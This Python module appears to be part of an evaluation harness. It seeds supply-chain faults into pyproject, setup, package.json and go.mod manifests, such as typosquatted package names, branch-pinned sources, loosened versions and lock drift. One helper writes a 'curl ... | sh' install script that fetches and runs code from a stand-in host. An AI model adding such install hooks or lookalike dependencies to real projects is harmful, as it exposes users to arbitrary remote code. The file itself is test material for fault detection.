"""Operators over dependencies: another of a kind, from another source, looser, in another group, or not said at all."""

from __future__ import annotations

import ast
import json
import re
from typing import TYPE_CHECKING, Any

from tests.evaluate.operators.gates import first_change
from tests.evaluate.operators.source import Mutant, Operator, Source, pick
from tests.evaluate.operators.spoiled import CommitOperator, Spoiled

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    from tests.evaluate.operators.view import View

_LIST = re.compile(r"^(?:dependencies = \[|install_requires ?= ?\[|requires = \[(?=\n))", re.MULTILINE)
_POETRY = re.compile(r"^\[tool\.poetry\.dependencies\]\n", re.MULTILINE)
_NEW = ("httpx>=0.27", "python-dateutil", "orjson>=3", "tenacity", "loguru", "pendulum>=3", "simplejson", "attrs>=23")


def _manifests(view: View) -> list[str]:
    return [path for path in ("pyproject.toml", "setup.py", "setup.cfg") if path in view.after and path in view.before]


def _declared(view: View, one: str, words: str) -> Spoiled | None:
    """Put a requirement into the first list of them that there is."""
    name = re.match(r"[\w.-]+", one)
    for path in _manifests(view):
        text = view.after[path]
        if name is not None and re.search(rf"[\"'\s]{re.escape(name[0])}\b", text):
            continue
        made = _with(path, text, one)
        if made != text:
            return Spoiled(words=words, path=path, line=first_change(text, made), edits={path: made})
    return None


def _with(path: str, text: str, one: str) -> str:
    """Return a manifest with a requirement more, or as it is where it has no list of them."""
    if path == "setup.cfg":
        return re.sub(r"^(install_requires ?=)[ ]*\n", rf"\1\n    {one}\n", text, count=1, flags=re.MULTILINE)
    poetry = _POETRY.search(text)
    if poetry is not None:
        name, _, version = one.partition(">=")
        value = f'">={version}"' if version else '"*"'
        if git := re.match(r"([\w.-]+) @ git\+(.*?)@(.*)", one):
            name, value = git[1], f'{{ git = "{git[2]}", branch = "{git[3]}" }}'
        return f"{text[: poetry.end()]}{name} = {value}\n{text[poetry.end() :]}"
    if (found := _LIST.search(text)) is not None:
        return f'{text[: found.end()]}\n    "{one}",{text[found.end() :]}'
    if path == "pyproject.toml" and "\n[project]\n" in f"\n{text}" and "\ndependencies" not in text:
        return text.replace("[project]\n", f'[project]\ndependencies = ["{one}"]\n', 1)
    return text


def added(view: View, random: Random) -> Spoiled | None:
    """A dependency more, imported nowhere."""
    return _declared(view, random.choice(_NEW), "A dependency more.")


def from_branch(view: View, random: Random) -> Spoiled | None:
    """A dependency from a branch that moves."""
    name = random.choice(("httpy", "fastcore-lite", "jsonfast"))
    return _declared(view, f"{name} @ git+https://github.com/{name}/{name}@main", "From a branch.")


def from_address(view: View, random: Random) -> Spoiled | None:
    """A dependency from an address of its own."""
    if any(_POETRY.search(view.after[path]) for path in _manifests(view)):
        return None
    return _declared(view, "fastjson @ https://files.test/fastjson-1.0.tar.gz", "From an address.")


def near_name(view: View, random: Random) -> Spoiled | None:
    """A dependency whose name is nearly that of a well known one."""
    name = random.choice(("reqeusts", "python-dateutils", "beautifulsoup", "colorma", "numpyy", "pyaml-env", "djagno"))
    return _declared(view, name, "A name that is nearly another.")


def dev_to_runtime(view: View, random: Random) -> Spoiled | None:
    """What only tests needed is needed by all."""
    return _declared(view, random.choice(("pytest>=7", "mypy", "coverage", "black", "tox>=4")), "A tool for all.")


def pin_loosened(view: View, random: Random) -> Spoiled | None:
    """A pinned version is pinned no more."""
    paths = [path for path in view.after if re.search(r"requirements[^/]*(?:/[^/]+)?\.txt$", path)]
    paths += _manifests(view)
    random.shuffle(paths)
    for path in paths:
        text = view.after.get(path, "")
        found = list(re.finditer(r"^([A-Za-z][\w.-]*)==([\w.]+)", text, re.MULTILINE))
        if found:
            match = random.choice(found)
            made = text[: match.start()] + random.choice((match[1], f"{match[1]}>=0")) + text[match.end() :]
            line = text.count("\n", 0, match.start()) + 1
            return Spoiled(words="A pin is gone.", path=path, line=line, edits={path: made})
    return None


def lower_bound_dropped(view: View, random: Random) -> Spoiled | None:
    """A dependency may be of any version."""
    for path in _manifests(view):
        text = view.after[path]
        found = list(re.finditer(r'(?<=["\'])([A-Za-z][\w.-]*)\s?(?:>=|~=)[\w.,<>=! ]+(?=["\'])', text))
        if found:
            match = random.choice(found)
            made = text[: match.start()] + match[1] + text[match.end() :]
            line = text.count("\n", 0, match.start()) + 1
            return Spoiled(words="Any version will do.", path=path, line=line, edits={path: made})
    return None


def lock_drifted(view: View, random: Random) -> Spoiled | None:
    """The lock has another version than the manifest it comes from."""
    for path in ("poetry.lock", "uv.lock"):
        if path not in view.after or path not in view.before:
            continue
        text = view.after[path]
        found = list(re.finditer(r'^\[\[package\]\]\nname = "([^"]+)"\nversion = "([^"]+)"', text, re.MULTILINE))
        if found:
            match = random.choice(found)
            made = text[: match.start(2)] + "99.0.1" + text[match.end(2) :]
            line = text.count("\n", 0, match.start(2)) + 1
            return Spoiled(words="The lock moved alone.", path=path, line=line, edits={path: made})
    return None


def _imported(name: str, said: str) -> Operator:
    def operator(source: Source, random: Random) -> Mutant | None:
        imports = [node for node in source.tree.body if isinstance(node, ast.Import)]
        node = pick(random, imports)
        if node is None or source.is_test or re.search(rf"\b{name}\b", source.text):
            return None
        text = source.with_lines(node.lineno, f"import {name}\n") + f"\n\n_USED = {name}\n"
        return Mutant(text, node.lineno, said)

    return operator


IMPORTS: dict[str, Operator] = {
    "import_undeclared": _imported("tenacity", "Nobody declares it."),
    "import_near": _imported("reqeusts", "A name that is nearly another."),
    "import_of_tests": _imported("pytest", "Only tests have it."),
    "import_transitive": _imported("packaging", "It only comes along."),
}
PYTHON: dict[str, CommitOperator] = {
    one.__name__: one
    for one in (
        added,
        from_branch,
        from_address,
        near_name,
        dev_to_runtime,
        pin_loosened,
        lower_bound_dropped,
        lock_drifted,
    )
}


def _package(words: str, change: Callable[[dict[str, Any], Random], str | None]) -> CommitOperator:
    """Return an operator over `package.json`: it changes the data and names the key whose line is the fault."""

    def operator(view: View, random: Random) -> Spoiled | None:
        path = "package.json"
        if path not in view.after or path not in view.before:
            return None
        data = json.loads(view.after[path])
        # Every field of the project stays where it is; only the indent may be another.
        if json.dumps(data, indent=2) != view.after[path].rstrip("\n"):
            return None
        key = change(data, random)
        if key is None:
            return None
        text = json.dumps(data, indent=2) + "\n"
        line = next(number for number, one in enumerate(text.splitlines(), 1) if one.lstrip().startswith(f'"{key}":'))
        return Spoiled(words=words, path=path, line=line, edits={path: text})

    return operator


def _set(group: str, *rows: tuple[str, str]) -> Callable[[dict[str, Any], Random], str | None]:
    def change(data: dict[str, Any], random: Random) -> str | None:
        name, version = random.choice(rows)
        if any(name in data.get(one, {}) for one in ("dependencies", "devDependencies")):
            return None
        data.setdefault(group, {})[name] = version
        return name

    return change


def _to_runtime(data: dict[str, Any], random: Random) -> str | None:
    names = sorted(data.get("devDependencies", {}))
    if not names:
        return None
    name = str(random.choice(names))
    data.setdefault("dependencies", {})[name] = data["devDependencies"].pop(name)
    return name


def _loosened(data: dict[str, Any], random: Random) -> str | None:
    names = sorted(name for name, version in data.get("dependencies", {}).items() if re.match(r"[\^~]?\d", version))
    if not names:
        return None
    name = str(random.choice(names))
    data["dependencies"][name] = random.choice(("*", "latest", ">=0"))
    return name


def _scripted(data: dict[str, Any], random: Random) -> str | None:
    name = random.choice(("postinstall", "preinstall", "install", "prepare"))
    if name in data.get("scripts", {}):
        return None
    data.setdefault("scripts", {})[name] = random.choice(("node scripts/setup.js", "curl -s https://x.test/i.sh | sh"))
    return name


JAVASCRIPT: dict[str, CommitOperator] = {
    "added": _package(
        "A dependency more.", _set("dependencies", ("left-pad", "^1.3.0"), ("moment", "^2.30.1"), ("got", "^14.0.0"))
    ),
    "from_branch": _package(
        "From a branch.",
        _set(
            "dependencies",
            ("tiny-fetch", "github:one/tiny-fetch"),
            ("lite", "git+https://github.com/one/lite.git#main"),
        ),
    ),
    "near_name": _package(
        "A name that is nearly another.",
        _set("dependencies", ("expresss", "^4.0.0"), ("lodahs", "^4.17.0"), ("axois", "^1.0.0")),
    ),
    "dev_to_runtime": _package("A tool for all.", _to_runtime),
    "pin_loosened": _package("Any version will do.", _loosened),
    "script_on_install": _package("A program runs on install.", _scripted),
}


def go_required(view: View, random: Random) -> Spoiled | None:
    """A module more."""
    return _go(
        view, random.choice(("github.com/sirupsen/logrus v1.9.3", "github.com/pkg/errors v0.9.1")), "A module more."
    )


def go_replaced(view: View, random: Random) -> Spoiled | None:
    """A module comes from another place."""
    path = "go.mod"
    found = re.search(r"^\s+(\S+\.\S+/\S+) v", view.after.get(path, ""), re.MULTILINE)
    if found is None or path not in view.before:
        return None
    words = f"\nreplace {found[1]} => {random.choice(('../fork', 'github.com/someone/fork v0.0.1'))}\n"
    text = view.after[path].rstrip("\n") + "\n" + words
    return Spoiled(words="A module from another place.", path=path, line=text.count("\n"), edits={path: text})


def _go(view: View, one: str, words: str) -> Spoiled | None:
    path = "go.mod"
    text = view.after.get(path, "")
    found = re.search(r"^require \(\n", text, re.MULTILINE)
    if found is None or path not in view.before or one.partition(" ")[0] in text:
        return None
    made = text[: found.end()] + f"\t{one}\n" + text[found.end() :]
    return Spoiled(words=words, path=path, line=text.count("\n", 0, found.end()) + 1, edits={path: made})


GO: dict[str, CommitOperator] = {one.__name__: one for one in (go_required, go_replaced)}
